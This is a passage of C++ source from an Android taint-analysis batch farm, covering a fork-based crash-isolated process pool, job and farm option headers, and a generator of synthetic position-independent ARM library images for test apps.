  const u64 len = rd.get_u64();
  if (len > kMaxPayload) throw serde::DecodeError("frame payload too large");
  const std::size_t total = kHeader + static_cast<std::size_t>(len) + 8;
  if (buf.size() < total) return std::nullopt;
  f.payload.assign(buf.begin() + kHeader, buf.begin() + kHeader + len);
  serde::Reader tail(
      std::span<const u8>(buf.data() + kHeader + len, std::size_t{8}));
  if (tail.get_u64() != static_analysis::fnv1a(f.payload)) {
    throw serde::DecodeError("frame hash mismatch");
  }
  buf.erase(buf.begin(), buf.begin() + total);
  return f;
}

}  // namespace wire

namespace {

using static_analysis::SummaryCache;

bool write_all(int fd, const u8* data, std::size_t len) {
  while (len > 0) {
    const ssize_t n = ::write(fd, data, len);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data += n;
    len -= static_cast<std::size_t>(n);
  }
  return true;
}

bool write_all(int fd, const std::vector<u8>& bytes) {
  return write_all(fd, bytes.data(), bytes.size());
}

/// Reads exactly `len` bytes; false on EOF or error.
bool read_exact(int fd, u8* data, std::size_t len) {
  while (len > 0) {
    const ssize_t n = ::read(fd, data, len);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    if (n == 0) return false;
    data += n;
    len -= static_cast<std::size_t>(n);
  }
  return true;
}

void alarm_handler(int) { _exit(wire::kTimeoutExit); }

/// The job process: runs exactly one job against the inherited
/// copy-on-write substrate, writes one result frame, and exits without
/// running destructors (_exit — this address space is a fork disposable).
[[noreturn]] void job_process_main(int out_fd, u32 index, const JobSpec& spec,
                                   const FarmOptions& opts,
                                   SummaryCache* cache,
                                   android::Device* snapshot) {
  if (opts.job_timeout_ms > 0) {
    struct sigaction sa {};
    sa.sa_handler = &alarm_handler;
    sigemptyset(&sa.sa_mask);
    ::sigaction(SIGALRM, &sa, nullptr);
    itimerval timer{};
    timer.it_value.tv_sec = opts.job_timeout_ms / 1000;
    timer.it_value.tv_usec =
        static_cast<long>(opts.job_timeout_ms % 1000) * 1000;
    ::setitimer(ITIMER_REAL, &timer, nullptr);
  }
  if (opts.fault_hook) opts.fault_hook(spec);

  const SummaryCache::Stats cache_before =
      cache != nullptr ? cache->stats() : SummaryCache::Stats{};
  const static_analysis::SummaryStore::Stats store_before =
      (cache == nullptr && opts.store != nullptr)
          ? opts.store->stats()
          : static_analysis::SummaryStore::Stats{};

  JobResult r = run_job(spec, cache, opts, snapshot);

  // Jobs run sequentially in this process, so the counter deltas are exactly
  // this job's activity; they ship home in the frame because this process's
  // memory (cache included) diverged from the supervisor's at fork.
  if (cache != nullptr) {
    const SummaryCache::Stats after = cache->stats();
    r.cache_delta.hits = after.hits - cache_before.hits;
    r.cache_delta.misses = after.misses - cache_before.misses;
    r.cache_delta.rebinds = after.rebinds - cache_before.rebinds;
    r.cache_delta.store_hits = after.store_hits - cache_before.store_hits;
    r.cache_delta.store_writes = after.store_writes - cache_before.store_writes;
  } else if (opts.store != nullptr) {
    const static_analysis::SummaryStore::Stats after = opts.store->stats();
    r.cache_delta.store_hits = after.hits - store_before.hits;
    r.cache_delta.store_writes = after.writes - store_before.writes;
  }

  const std::vector<u8> payload = wire::encode_result(r);
  const std::vector<u8> frame =
      wire::encode_frame(wire::kFrameResult, index, payload);
  write_all(out_fd, frame);
  _exit(0);
}

/// Classifies a dead job process from its wait status.
wire::DeathInfo classify_death(int status, u32 timeout_ms) {
  wire::DeathInfo d;
  if (WIFSIGNALED(status)) {
    d.cause = wire::DeathInfo::Cause::kSignal;
    d.value = WTERMSIG(status);
  } else if (WIFEXITED(status) && WEXITSTATUS(status) == wire::kTimeoutExit) {
    d.cause = wire::DeathInfo::Cause::kTimeout;
    d.value = static_cast<i32>(timeout_ms);
  } else {
    d.cause = wire::DeathInfo::Cause::kProtocol;
    d.value = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  }
  return d;
}

/// The zygote worker: builds the template substrate once, then serves job
/// indices read off the job pipe, forking one job process per job and
/// forwarding (or synthesizing) exactly one frame per job upstream.
[[noreturn]] void zygote_main(int job_fd, int res_fd,
                              const std::vector<JobSpec>& jobs,
                              const FarmOptions& opts, SummaryCache* cache) {
  // The expensive part of setup_ms, paid once per worker instead of once
  // per job: every job process forks a pristine copy-on-write copy.
  // (Skipped for the zygote_template=false ablation.)
  std::optional<android::Device> template_device;
  if (opts.zygote_template) template_device.emplace();

  for (;;) {
    u8 le[4];
    if (!read_exact(job_fd, le, 4)) _exit(0);  // EOF: supervisor shutdown
    const u32 index = static_cast<u32>(le[0]) | (static_cast<u32>(le[1]) << 8) |
                      (static_cast<u32>(le[2]) << 16) |
                      (static_cast<u32>(le[3]) << 24);
    if (index >= jobs.size()) _exit(3);

    int job_pipe[2];
    if (::pipe(job_pipe) != 0) _exit(4);
    const pid_t pid = ::fork();
    if (pid == 0) {
      ::close(job_pipe[0]);
      ::close(job_fd);
      // Critical: if this copy kept the result-pipe write end open, the
      // supervisor could never see the zygote's death as EOF.
      ::close(res_fd);
      job_process_main(job_pipe[1], index, jobs[index], opts, cache,
                       template_device ? &*template_device : nullptr);
    }
    ::close(job_pipe[1]);

    std::vector<u8> buf;
    if (pid > 0) {
      u8 chunk[4096];
      for (;;) {
        const ssize_t n = ::read(job_pipe[0], chunk, sizeof chunk);
        if (n < 0) {
          if (errno == EINTR) continue;
          break;
        }
        if (n == 0) break;
        buf.insert(buf.end(), chunk, chunk + n);
      }
    }
    ::close(job_pipe[0]);

    int status = 0;
    if (pid > 0) {
      while (::waitpid(pid, &status, 0) < 0 && errno == EINTR) {
      }
    }

    // A clean result is a single well-framed payload for this job and
    // nothing else; anything short of that is a death. The frame is
    // validated here, next to the corpse, so a job killed mid-write can
    // never leak a torn frame into the supervisor's stream.
    std::vector<u8> out;
    bool valid = false;
    if (pid > 0 && WIFEXITED(status) && WEXITSTATUS(status) == 0) {
      try {
        std::vector<u8> scratch = buf;
        const std::optional<wire::Frame> f = wire::take_frame(scratch);
        valid = f.has_value() && f->type == wire::kFrameResult &&
                f->job_index == index && scratch.empty();
      } catch (const serde::DecodeError&) {
        valid = false;
      }
    }
    if (valid) {
      out = std::move(buf);
    } else {
      const wire::DeathInfo d =
          pid > 0 ? classify_death(status, opts.job_timeout_ms)
                  : wire::DeathInfo{wire::DeathInfo::Cause::kProtocol, -2};
      out = wire::encode_frame(wire::kFrameDeath, index, wire::encode_death(d));
      // Job processes that died are worker deaths too; the supervisor
      // counts them when it sees the death frame.
    }
    if (!write_all(res_fd, out)) _exit(0);  // supervisor gone
  }
}

struct Slot {
  pid_t pid = -1;
  int job_fd = -1;  // supervisor -> zygote: 4-byte LE job indices
  int res_fd = -1;  // zygote -> supervisor: frames
  i64 job = -1;     // index in flight, -1 when idle
  std::vector<u8> buf;
};

void close_slot(Slot& slot) {
  if (slot.job_fd >= 0) ::close(slot.job_fd);
  if (slot.res_fd >= 0) ::close(slot.res_fd);
  slot.job_fd = -1;
  slot.res_fd = -1;
}

}  // namespace

FarmReport run_farm_processes(const std::vector<JobSpec>& jobs,
                              const FarmOptions& options,
                              static_analysis::SummaryCache* cache) {
  FarmReport report;
  report.processes = options.processes;
  if (jobs.empty()) return report;

  // A worker that dies mid-conversation must surface as a failed write/read
  // on our side, never as a fatal SIGPIPE. Restored on exit.
  struct sigaction ignore_pipe {}, old_pipe {};
  ignore_pipe.sa_handler = SIG_IGN;
  sigemptyset(&ignore_pipe.sa_mask);
  ::sigaction(SIGPIPE, &ignore_pipe, &old_pipe);

  const u32 nslots = std::min<u32>(
      options.processes, static_cast<u32>(jobs.size()));
  std::vector<Slot> slots(nslots);

  const auto spawn = [&](u32 s) -> bool {
    int jp[2] = {-1, -1};
    int rp[2] = {-1, -1};
    if (::pipe(jp) != 0) return false;
    if (::pipe(rp) != 0) {
      ::close(jp[0]);
      ::close(jp[1]);
      return false;
    }
    const pid_t pid = ::fork();
    if (pid < 0) {
      ::close(jp[0]);
      ::close(jp[1]);
      ::close(rp[0]);
      ::close(rp[1]);
      return false;
    }
    if (pid == 0) {
      ::close(jp[1]);
      ::close(rp[0]);
      // Inherited supervisor-side ends of earlier slots: holding a copy of
      // another slot's job pipe would keep that zygote alive past shutdown.
      for (Slot& other : slots) close_slot(other);
      zygote_main(jp[0], rp[1], jobs, options, cache);
    }
    ::close(jp[0]);
    ::close(rp[1]);
    slots[s].pid = pid;
    slots[s].job_fd = jp[1];
    slots[s].res_fd = rp[0];
    slots[s].job = -1;
    slots[s].buf.clear();
    return true;
  };

  std::deque<u32> pending;
  for (u32 i = 0; i < jobs.size(); ++i) pending.push_back(i);
  std::vector<u32> attempts(jobs.size(), 0);
  std::size_t completed = 0;

  // Results flow through the same bounded channel as the thread scheduler's
  // (drained inline — the supervisor is both producer and consumer).
  Channel<JobResult> results(options.channel_capacity);
  const auto finish = [&](JobResult r) {
    results.push(std::move(r));
    while (std::optional<JobResult> v = results.try_pop()) {
      aggregate_result(report, std::move(*v));
    }
    ++completed;
  };

  // A job lost its process: requeue once, then fail deterministically. The
  // retry lands in report.retries via the eventual result's retries field
  // (attempts - 1), which aggregate_result folds in.
  const auto lose_job = [&](u32 j, const std::string& why) {
    if (attempts[j] < 2) {
      pending.push_back(j);
      return;
    }
    JobResult r;
    r.spec = jobs[j];
    r.ok = false;
    r.error = why;
    r.retries = attempts[j] - 1;
    finish(std::move(r));
  };

  const auto death_reason = [&](const wire::DeathInfo& d) -> std::string {
    switch (d.cause) {
      case wire::DeathInfo::Cause::kSignal:
        return "job process killed by signal " + std::to_string(d.value);
      case wire::DeathInfo::Cause::kTimeout:
        return "job deadline exceeded (" + std::to_string(d.value) + " ms)";
      case wire::DeathInfo::Cause::kProtocol:
        return "job process exited without a result (status " +
               std::to_string(d.value) + ")";
    }
    return "job process lost";
  };

  const auto assign = [&](u32 s) {
    if (pending.empty() || slots[s].pid < 0 || slots[s].job >= 0) return;
    const u32 j = pending.front();
    pending.pop_front();
    ++attempts[j];
    slots[s].job = j;
    const u8 le[4] = {static_cast<u8>(j), static_cast<u8>(j >> 8),
                      static_cast<u8>(j >> 16), static_cast<u8>(j >> 24)};
    // A failed write means the zygote already died; the EOF on its result
    // pipe surfaces in the next poll round and handles the loss.
    write_all(slots[s].job_fd, le, 4);
  };

  // A slot whose zygote is gone: reap it, salvage its in-flight job, and
  // respawn while work remains.
  const auto slot_died = [&](u32 s, const std::string& why) {
    ++report.worker_deaths;
    if (slots[s].pid > 0) {
      ::kill(slots[s].pid, SIGKILL);
      int status = 0;
      while (::waitpid(slots[s].pid, &status, 0) < 0 && errno == EINTR) {
      }
    }
    close_slot(slots[s]);
    slots[s].pid = -1;
    slots[s].buf.clear();
    if (slots[s].job >= 0) {
      const u32 j = static_cast<u32>(slots[s].job);
      slots[s].job = -1;
      lose_job(j, why);
    }
    if (completed < jobs.size()) spawn(s);
  };

  for (u32 s = 0; s < nslots; ++s) spawn(s);

  while (completed < jobs.size()) {
    for (u32 s = 0; s < nslots; ++s) assign(s);

    std::vector<pollfd> fds;
    std::vector<u32> fd_slot;
    for (u32 s = 0; s < nslots; ++s) {
      if (slots[s].pid < 0) continue;
      fds.push_back(pollfd{slots[s].res_fd, POLLIN, 0});
      fd_slot.push_back(s);
    }
    if (fds.empty()) break;  // no live workers and nothing respawnable

    const int n = ::poll(fds.data(), fds.size(), -1);
    if (n < 0) {
      if (errno == EINTR) continue;
      break;
    }

    for (std::size_t i = 0; i < fds.size(); ++i) {
      if ((fds[i].revents & (POLLIN | POLLHUP | POLLERR)) == 0) continue;
      const u32 s = fd_slot[i];
      u8 chunk[4096];
      const ssize_t got = ::read(slots[s].res_fd, chunk, sizeof chunk);
      if (got < 0) {
        if (errno == EINTR || errno == EAGAIN) continue;
        slot_died(s, "worker process died");
        continue;
      }
      if (got == 0) {
        slot_died(s, "worker process died");
        continue;
      }
      slots[s].buf.insert(slots[s].buf.end(), chunk, chunk + got);

      try {
        while (std::optional<wire::Frame> f = wire::take_frame(slots[s].buf)) {
          if (slots[s].job < 0 ||
              f->job_index != static_cast<u32>(slots[s].job)) {
            throw serde::DecodeError("frame for a job this slot doesn't own");
          }
          const u32 j = f->job_index;
          slots[s].job = -1;
          if (f->type == wire::kFrameResult) {
            JobResult r = wire::decode_result(f->payload);
            r.worker = s;
            r.retries = attempts[j] - 1;
            finish(std::move(r));
          } else {
            const wire::DeathInfo d = wire::decode_death(f->payload);
            ++report.worker_deaths;
            lose_job(j, death_reason(d));
          }
          assign(s);
        }
      } catch (const serde::DecodeError&) {
        // Corrupt stream: nothing downstream of it can be trusted.
        slot_died(s, "worker result stream corrupt");
      }
    }
  }

  // Shutdown: EOF on the job pipes sends every zygote to _exit(0).
  for (Slot& slot : slots) {
    if (slot.job_fd >= 0) {
      ::close(slot.job_fd);
      slot.job_fd = -1;
    }
  }
  for (Slot& slot : slots) {
    if (slot.pid > 0) {
      int status = 0;
      while (::waitpid(slot.pid, &status, 0) < 0 && errno == EINTR) {
      }
    }
    close_slot(slot);
  }
  ::sigaction(SIGPIPE, &old_pipe, nullptr);

  // Jobs no process could complete (e.g. fork failures drained every slot):
  // anything that never produced a result is failed deterministically so the
  // report always carries one entry per job.
  if (completed < jobs.size()) {
    std::vector<bool> reported(jobs.size(), false);
    for (const JobResult& r : report.results) {
      for (u32 j = 0; j < jobs.size(); ++j) {
        if (!reported[j] && jobs[j].id == r.spec.id &&
            jobs[j].rep == r.spec.rep) {
          reported[j] = true;
          break;
        }
      }
    }
    for (u32 j = 0; j < jobs.size(); ++j) {
      if (reported[j]) continue;
      JobResult r;
      r.spec = jobs[j];
      r.ok = false;
      r.error = "no worker process available";
      finish(std::move(r));
    }
  }

  return report;
}

}  // namespace ndroid::farm
