// Analysis-job descriptions for the batch farm.
//
// A job is everything needed to reproduce one app analysis hermetically:
// which app to build (by kind + name), how hard to drive it (iterations /
// monkey events), and the explicit RNG seed for input generation. Workers
// construct a fresh Device + NDroid per job, so two runs of the same spec —
// on any worker, at any concurrency — produce identical results.
#pragma once

#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::farm {

enum class JobKind : u8 {
  kLeakCase,   // Table I / Fig. 3 scenarios ("case1" .. "case4")
  kCfBench,    // one CF-Bench workload (paper §VI-E)
  kMarketApp,  // synthetic market-corpus app bundling popular libraries
  kRealApp,    // §VI real apps (QQPhoneBook, ePhone), monkey-driven
  kFuzz,       // cross-engine differential fuzz program (src/farm/fuzz)
};

[[nodiscard]] const char* to_string(JobKind kind);

struct JobSpec {
  u32 id = 0;          // unique within a batch; results sort by it
  JobKind kind = JobKind::kLeakCase;
  std::string name;    // case name / workload name / package / app name
  u32 rep = 0;         // repetition index for --repeat batches

  u32 iterations = 0;      // kCfBench: workload iteration count
  u32 monkey_events = 0;   // kRealApp: random invocations to fire
  u64 monkey_seed = 0;     // kRealApp: explicit driver seed (reproducible
                           // concurrent monkey runs; varied per rep)

  /// kMarketApp: native libraries the app bundles. Library images are
  /// generated deterministically from the library *name*, so two apps
  /// bundling "libunity.so" carry byte-identical images and share one
  /// static-summary cache entry.
  std::vector<std::string> native_libs;
};

}  // namespace ndroid::farm
