// Parallel app-analysis farm (the batch engine over src/core).
//
// run_farm() drains a queue of JobSpecs across N worker threads. Each worker
// owns a fully isolated analysis stack per job — a fresh android::Device and
// core::NDroid — so jobs never share mutable state; the only cross-worker
// structure is the static-summary cache (static_analysis::SummaryCache),
// which is immutable-after-publish and concurrency-safe. Scheduling is
// work-stealing: jobs are dealt round-robin into per-worker deques, owners
// pop from the front, idle workers steal from the back of the longest
// victim. Results stream through a bounded channel to the calling thread,
// which aggregates incrementally (no per-worker result buffers), then sorts
// by job id — so a FarmReport is identical for any worker count, including
// the inline serial path (workers == 0).
//
// Setting FarmOptions::processes instead shards the batch across worker
// *processes* (see process_pool.cc): pre-forked zygote workers fork one
// grandchild per job off a copy-on-write template snapshot, results come
// back over a framed pipe protocol into the same bounded channel, and a
// crashing or deadline-blowing job costs exactly that job — the supervisor
// retries it once and then records the failure in the FarmReport. The
// persistent SummaryStore (FarmOptions::store_dir) is what worker processes
// share summaries through; leak_digest() is topology-independent across
// serial, threaded, and process-sharded runs.
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "core/report.h"
#include "farm/job.h"
#include "static/summary_cache.h"
#include "taintdroid/framework.h"

namespace ndroid::android {
class Device;
}

namespace ndroid::farm {

/// CPU execution tier every job's Device runs on. The tiers stack (each is
/// the previous plus one mechanism), so sweeping them isolates the
/// contribution of the TB cache, the software TLB, and the threaded
/// micro-op tier. `kThreaded` is the production default.
enum class EngineTier { kInterp, kTb, kTbTlb, kThreaded, kJit };

/// Parses "interp" | "tb" | "tb+tlb" | "threaded" | "jit"; throws
/// std::invalid_argument on anything else. "jit" degrades to the threaded
/// tier on hosts without host-code emission (Cpu::jit_available() false).
EngineTier parse_engine(const std::string& name);
const char* to_string(EngineTier tier);

/// Applies the tier's CPU/memory toggles to a freshly built Device.
void apply_engine(ndroid::android::Device& device, EngineTier tier);

struct FarmOptions {
  /// Worker threads. 0 = run every job inline on the calling thread (the
  /// serial reference the determinism tests compare against).
  u32 workers = 0;
  /// Worker *processes*. Non-zero selects the crash-isolated fork pool
  /// (process_pool.cc) and ignores `workers`: the supervisor stays
  /// single-threaded on the calling thread, each job runs in a grandchild
  /// forked off a pre-built copy-on-write snapshot, and a crash/timeout
  /// costs only that job (retried once, then marked failed).
  u32 processes = 0;
  /// Per-job wall-clock deadline in process mode (SIGALRM in the job's own
  /// process). 0 = no deadline. Ignored in serial/thread modes, where a
  /// runaway job cannot be killed safely.
  u32 job_timeout_ms = 0;
  /// Directory of the persistent content-addressed summary store. Non-empty
  /// = the farm opens (creating if needed) a SummaryStore there, attaches it
  /// below the SummaryCache, and pre-warms the cache from it before any
  /// worker starts — in process mode the warmed cache is inherited by every
  /// worker via fork, and fresh lifts are written back so later jobs,
  /// batches, and *runs* hit on disk.
  std::string store_dir;
  /// Externally owned store (e.g. a test's). Overrides store_dir.
  static_analysis::SummaryStore* store = nullptr;
  /// Process mode: build one pristine template Device per zygote and hand
  /// it to every job process through copy-on-write fork memory (jobs whose
  /// kind uses a default Device then skip construction entirely). Off =
  /// every job process builds its own Device — the ablation row bench_farm
  /// uses to price the template.
  bool zygote_template = true;
  /// Fault-injection hook (tests only): runs inside the job's own process in
  /// process mode, immediately before the job executes. A hook that
  /// abort()s, SIGKILLs, or spins past the deadline exercises exactly the
  /// crash paths the supervisor must contain.
  std::function<void(const JobSpec&)> fault_hook;
  /// Share static summaries through a SummaryCache. Off = every job lifts
  /// its own libraries (the pre-farm per-attach behaviour; ablation).
  bool share_summaries = true;
  /// Externally owned cache to share across batches (e.g. --repeat runs).
  /// Null + share_summaries: the farm creates a batch-local cache.
  static_analysis::SummaryCache* cache = nullptr;
  /// Enable the §VII TaintGuard in every job's NDroid.
  bool taint_protection = true;
  /// Result-channel bound (backpressure on the aggregator).
  std::size_t channel_capacity = 64;
  /// Execution tier for every job's CPU (--engine; ablation sweeps).
  EngineTier engine = EngineTier::kThreaded;
};

struct JobTiming {
  double setup_ms = 0;   // Device construction + app build
  double static_ms = 0;  // attach_static_analysis (cache acquire or lift)
  double run_ms = 0;     // driving the app
};

struct JobResult {
  JobSpec spec;
  u32 worker = 0;  // informational only; excluded from leak_digest()
  bool ok = false;
  std::string error;

  std::vector<core::NativeLeak> native_leaks;
  std::vector<taintdroid::LeakReport> framework_leaks;
  u32 tamper_alerts = 0;
  u64 summary_gate_skips = 0;
  u32 checksum = 0;                  // kCfBench / kMarketApp result value
  std::string market_type;           // kMarketApp: §III classification
  std::string first_leaking_method;  // kRealApp: monkey finding
  JobTiming timing;
  /// Process mode: how many times this job was restarted after a worker
  /// death or deadline overrun (0 or 1; excluded from leak_digest()).
  u32 retries = 0;
  /// Process mode: cache/store activity observed inside the job's own
  /// process (its cache diverges from the supervisor's after fork, so the
  /// delta ships back in the result frame for aggregation).
  static_analysis::SummaryCache::Stats cache_delta;
};

struct FarmReport {
  std::vector<JobResult> results;  // sorted by spec.id

  u32 workers = 0;
  u32 processes = 0;
  u32 jobs = 0;
  u32 failures = 0;
  /// Process mode: jobs restarted after losing their worker (each counted
  /// once; a job that fails its retry also shows up in `failures`).
  u32 retries = 0;
  /// Process mode: job processes that died abnormally (signal, deadline, or
  /// torn result frame) plus zygote workers the supervisor had to respawn.
  u32 worker_deaths = 0;
  /// Snapshots pre-published from the persistent store before workers
  /// started (warm-start evidence for the twice-run CI smoke).
  u32 warm_entries = 0;
  u32 native_leaks = 0;
  u32 framework_leaks = 0;
  u32 tamper_alerts = 0;
  u64 summary_gate_skips = 0;
  double wall_ms = 0;
  double apps_per_sec = 0;
  /// Cache activity attributable to this batch (delta over the run when an
  /// external cache is shared).
  static_analysis::SummaryCache::Stats cache;

  /// Canonical byte-comparable encoding of every analysis outcome, sorted
  /// by job id and independent of worker assignment and timing. Two runs of
  /// the same batch must produce equal digests at any worker count.
  [[nodiscard]] std::string leak_digest() const;
  [[nodiscard]] std::string to_json() const;
};

/// Runs one job hermetically (fresh Device + NDroid); never throws — build
/// or drive failures are captured in JobResult::error. `snapshot`, when
/// non-null, is a pristine default-constructed Device the job may consume
/// instead of building its own (the fork pool's copy-on-write template;
/// only jobs whose kind uses a default Device take it).
JobResult run_job(const JobSpec& spec, static_analysis::SummaryCache* cache,
                  const FarmOptions& options,
                  android::Device* snapshot = nullptr);

FarmReport run_farm(const std::vector<JobSpec>& jobs,
                    const FarmOptions& options = {});

/// Streaming aggregation step shared by the thread and process schedulers:
/// folds one result into the report's counters and appends it to
/// `report.results` (caller sorts by id at the end).
void aggregate_result(FarmReport& report, JobResult r);

/// The crash-isolated process scheduler (see process_pool.cc). run_farm()
/// dispatches here when options.processes > 0; callable directly in tests.
/// `cache` may be null (share_summaries off).
FarmReport run_farm_processes(const std::vector<JobSpec>& jobs,
                              const FarmOptions& options,
                              static_analysis::SummaryCache* cache);

}  // namespace ndroid::farm
