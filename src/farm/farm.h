// Parallel app-analysis farm (the batch engine over src/core).
//
// run_farm() drains a queue of JobSpecs across N worker threads. Each worker
// owns a fully isolated analysis stack per job — a fresh android::Device and
// core::NDroid — so jobs never share mutable state; the only cross-worker
// structure is the static-summary cache (static_analysis::SummaryCache),
// which is immutable-after-publish and concurrency-safe. Scheduling is
// work-stealing: jobs are dealt round-robin into per-worker deques, owners
// pop from the front, idle workers steal from the back of the longest
// victim. Results stream through a bounded channel to the calling thread,
// which aggregates incrementally (no per-worker result buffers), then sorts
// by job id — so a FarmReport is identical for any worker count, including
// the inline serial path (workers == 0).
#pragma once

#include <string>
#include <vector>

#include "core/report.h"
#include "farm/job.h"
#include "static/summary_cache.h"
#include "taintdroid/framework.h"

namespace ndroid::android {
class Device;
}

namespace ndroid::farm {

/// CPU execution tier every job's Device runs on. The tiers stack (each is
/// the previous plus one mechanism), so sweeping them isolates the
/// contribution of the TB cache, the software TLB, and the threaded
/// micro-op tier. `kThreaded` is the production default.
enum class EngineTier { kInterp, kTb, kTbTlb, kThreaded };

/// Parses "interp" | "tb" | "tb+tlb" | "threaded"; throws
/// std::invalid_argument on anything else.
EngineTier parse_engine(const std::string& name);
const char* to_string(EngineTier tier);

/// Applies the tier's CPU/memory toggles to a freshly built Device.
void apply_engine(ndroid::android::Device& device, EngineTier tier);

struct FarmOptions {
  /// Worker threads. 0 = run every job inline on the calling thread (the
  /// serial reference the determinism tests compare against).
  u32 workers = 0;
  /// Share static summaries through a SummaryCache. Off = every job lifts
  /// its own libraries (the pre-farm per-attach behaviour; ablation).
  bool share_summaries = true;
  /// Externally owned cache to share across batches (e.g. --repeat runs).
  /// Null + share_summaries: the farm creates a batch-local cache.
  static_analysis::SummaryCache* cache = nullptr;
  /// Enable the §VII TaintGuard in every job's NDroid.
  bool taint_protection = true;
  /// Result-channel bound (backpressure on the aggregator).
  std::size_t channel_capacity = 64;
  /// Execution tier for every job's CPU (--engine; ablation sweeps).
  EngineTier engine = EngineTier::kThreaded;
};

struct JobTiming {
  double setup_ms = 0;   // Device construction + app build
  double static_ms = 0;  // attach_static_analysis (cache acquire or lift)
  double run_ms = 0;     // driving the app
};

struct JobResult {
  JobSpec spec;
  u32 worker = 0;  // informational only; excluded from leak_digest()
  bool ok = false;
  std::string error;

  std::vector<core::NativeLeak> native_leaks;
  std::vector<taintdroid::LeakReport> framework_leaks;
  u32 tamper_alerts = 0;
  u64 summary_gate_skips = 0;
  u32 checksum = 0;                  // kCfBench / kMarketApp result value
  std::string market_type;           // kMarketApp: §III classification
  std::string first_leaking_method;  // kRealApp: monkey finding
  JobTiming timing;
};

struct FarmReport {
  std::vector<JobResult> results;  // sorted by spec.id

  u32 workers = 0;
  u32 jobs = 0;
  u32 failures = 0;
  u32 native_leaks = 0;
  u32 framework_leaks = 0;
  u32 tamper_alerts = 0;
  u64 summary_gate_skips = 0;
  double wall_ms = 0;
  double apps_per_sec = 0;
  /// Cache activity attributable to this batch (delta over the run when an
  /// external cache is shared).
  static_analysis::SummaryCache::Stats cache;

  /// Canonical byte-comparable encoding of every analysis outcome, sorted
  /// by job id and independent of worker assignment and timing. Two runs of
  /// the same batch must produce equal digests at any worker count.
  [[nodiscard]] std::string leak_digest() const;
  [[nodiscard]] std::string to_json() const;
};

/// Runs one job hermetically (fresh Device + NDroid); never throws — build
/// or drive failures are captured in JobResult::error.
JobResult run_job(const JobSpec& spec, static_analysis::SummaryCache* cache,
                  const FarmOptions& options);

FarmReport run_farm(const std::vector<JobSpec>& jobs,
                    const FarmOptions& options = {});

}  // namespace ndroid::farm
