#include "farm/market_app.h"

#include <cctype>

#include "apps/native_lib_builder.h"
#include "static/library_summary.h"

namespace ndroid::farm {

using arm::Assembler;
using arm::Cond;
using arm::Label;
using arm::LR;
using arm::R;

namespace {

/// xorshift64 — deterministic code-shape choices from the library-name hash.
struct Rng {
  u64 s;
  u32 next(u32 bound) {
    s ^= s << 13;
    s ^= s >> 7;
    s ^= s << 17;
    return static_cast<u32>(s % bound);
  }
};

/// One random register-to-register ALU op over {r0, r1, r3} (never r2 — the
/// loop counter — nor SP/LR/PC; no memory, no constants — keeps the code
/// position-independent, the loops bounded, and the summaries
/// pure-register).
void emit_alu(Assembler& a, Rng& rng) {
  static constexpr u8 kPool[] = {0, 1, 3};
  const arm::Reg rd = R(kPool[rng.next(3)]);
  const arm::Reg rn = R(kPool[rng.next(3)]);
  const arm::Reg rm = R(kPool[rng.next(3)]);
  switch (rng.next(5)) {
    case 0: a.add(rd, rn, rm); break;
    case 1: a.eor(rd, rn, rm); break;
    case 2: a.orr(rd, rn, rm); break;
    case 3: a.and_(rd, rn, rm); break;
    default: a.sub(rd, rn, rm); break;
  }
}

}  // namespace

std::vector<GuestAddr> emit_pic_library(arm::Assembler& a, u64 seed) {
  Rng rng{seed | 1};
  std::vector<GuestAddr> entries;

  // A shared leaf helper: call-free, pure-register, bounded loop. Its
  // summary carries no absolute addresses and relocates losslessly (see
  // bind_library).
  a.align(4);
  Label helper;
  a.bind(helper);
  const GuestAddr helper_entry = a.here();
  a.mov_imm(R(2), 4 + rng.next(8));
  Label loop;
  a.bind(loop);
  emit_alu(a, rng);
  a.add(R(0), R(0), R(1));
  a.sub_imm(R(2), R(2), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  a.ret();
  (void)helper_entry;

  // Exported functions: sp-relative prologue/epilogue, a few ALU ops, one
  // PC-relative internal call into the helper.
  const u32 exported = 2 + rng.next(3);
  for (u32 f = 0; f < exported; ++f) {
    a.align(4);
    entries.push_back(a.here());
    a.push({R(4), LR});
    const u32 ops = 2 + rng.next(6);
    for (u32 i = 0; i < ops; ++i) emit_alu(a, rng);
    a.bl(helper);
    emit_alu(a, rng);
    a.pop({R(4), LR});
    a.ret();
  }
  return entries;
}

MarketApp build_market_app(android::Device& device, const JobSpec& spec) {
  MarketApp app;
  std::string descriptor = "L";
  for (const char c : spec.name) descriptor += (c == '.') ? '/' : c;
  descriptor += "/App;";
  app.cls = device.dvm.define_class(descriptor);

  for (const std::string& lib_name : spec.native_libs) {
    apps::NativeLibBuilder lib(device, lib_name);
    const u64 seed = static_analysis::fnv1a(
        {reinterpret_cast<const u8*>(lib_name.data()), lib_name.size()});
    const GuestAddr image_base = lib.a().here();
    const std::vector<GuestAddr> fns = emit_pic_library(lib.a(), seed);
    const GuestAddr load_base = lib.install();

    // Method names derive from the library name (not its position in this
    // app's lib list), so the labels baked into a shared snapshot read the
    // same no matter which app lifted it first.
    std::string stem;
    for (const char c : lib_name) {
      if (std::isalnum(static_cast<unsigned char>(c))) stem += c;
    }
    for (std::size_t i = 0; i < fns.size(); ++i) {
      // Entry offsets are image-relative; rebase in case install() placed
      // the image elsewhere than the assembler's base.
      const GuestAddr entry = load_base + (fns[i] - image_base);
      app.natives.push_back(device.dvm.define_native(
          app.cls, stem + "_f" + std::to_string(i), "II",
          dvm::kAccPublic | dvm::kAccStatic, entry));
    }
  }
  return app;
}

}  // namespace ndroid::farm
