// Synthetic market-corpus apps for the farm (the §III corpus made runnable).
//
// The market study's AppRecords name which popular libraries each app
// bundles (libunity.so, libgdx.so, ...). This module turns those names into
// loadable, analyzable library images: each library's code is generated
// deterministically from a hash of its *name*, so every app bundling
// "libunity.so" ships byte-identical bytes — exactly the property the
// farm's static-summary cache amortises (one lift per distinct library,
// shared across every app and worker).
//
// The generated code is strictly position-independent: ALU register ops,
// sp-relative push/pop, and label-based (PC-relative) branches and calls
// only — no MOVW/MOVT constants, no literal pools, no absolute addresses.
// An image therefore hashes to the same key at any load base, and when two
// apps map it at different bases the cache's relocation path (bind_library)
// is exercised instead of a redundant lift.
#pragma once

#include <string>
#include <vector>

#include "android/device.h"
#include "arm/assembler.h"
#include "farm/job.h"

namespace ndroid::farm {

